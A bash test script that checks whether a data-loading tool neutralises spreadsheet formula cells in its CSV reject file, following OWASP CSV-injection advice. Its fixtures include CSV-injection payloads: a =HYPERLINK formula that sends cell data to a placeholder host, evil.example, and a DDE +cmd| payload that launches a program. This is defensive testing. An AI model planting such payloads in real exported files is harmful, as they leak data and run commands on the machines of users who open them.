#!/usr/bin/env bash
# Formula cells (=HYPERLINK, +cmd|, @SUM, -2+3) are written to the reject file with a leading ' (OWASP CSV
# injection advice), rows refused at merge time too; oversight.quarantine keeps the exact text.
source "$(dirname "$0")/lib.sh"
new_database formulas
write_units "$WORK/units.csv"
load org-units -q "$WORK/units.csv" >/dev/null 2>&1
is "$?" 0 "org units load with exit 0"
reason() { q "SELECT coalesce(field, '-') || ': ' || reason FROM oversight.quarantine WHERE file_name = '$1' AND line_no = $2"; }

# formula cells in the reject file start with ' (OWASP); the database keeps the exact text.
{
	printf 'payment_code,payer_unit_code,payee_name,amount,payment_method,paid_on,purpose\n'
	printf 'F-1,EDU01,good,10,transfer,2024-03-05,ok\n'
	printf 'F-2,EDU01,"=HYPERLINK(""http://evil.example/?d=""&A1,""x"")",-2+3,transfer,2024-03-05,formula\n'
	printf 'F-3,EDU01,+cmd|'"'"' /C calc'"'"'!A0,@SUM(1),transfer,2024-03-05,formula\n'
	printf 'F-4,NOPE,=1+1,10,transfer,2024-03-05,-2+3\n'
} >"$WORK/formulas.csv"
f="$WORK/formulas.csv"
load payments -q "$f" >/dev/null 2>&1
is "$?" 4 "CSV with formula cells: exit 4"
rej="$f.rejects.csv"
is "$(sed -n 2p "$rej")" "F-2,EDU01,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"x\"\")\",'-2+3,transfer,2024-03-05,formula,3,amount,is not a number"$'\r' "reject file: =HYPERLINK and -2+3 start with '"
like "$(cat "$rej")" "F-3,EDU01,'\\+cmd\\|' /C calc'!A0,'@SUM\\(1\\),transfer" "reject file: +cmd| and @SUM start with '"
like "$(cat "$rej")" "F-4,NOPE,'=1\\+1,10,transfer,2024-03-05,'-2\\+3,5,payer_unit_code" "rows refused at merge time are neutralised too"
is "$(awk -F, 'NR > 1 && $3 ~ /^[=+@-]/' "$rej" | wc -l)" 0 "no payee cell of the reject file starts with a formula character"
like "$(q "SELECT raw_text FROM oversight.quarantine WHERE file_name = '$f' AND line_no = 3")" '^F-2,EDU01,"=HYPERLINK\(""http://evil.example/\?d=""&A1,""x""\)",-2\+3,' "oversight.quarantine keeps the exact text"

done_testing
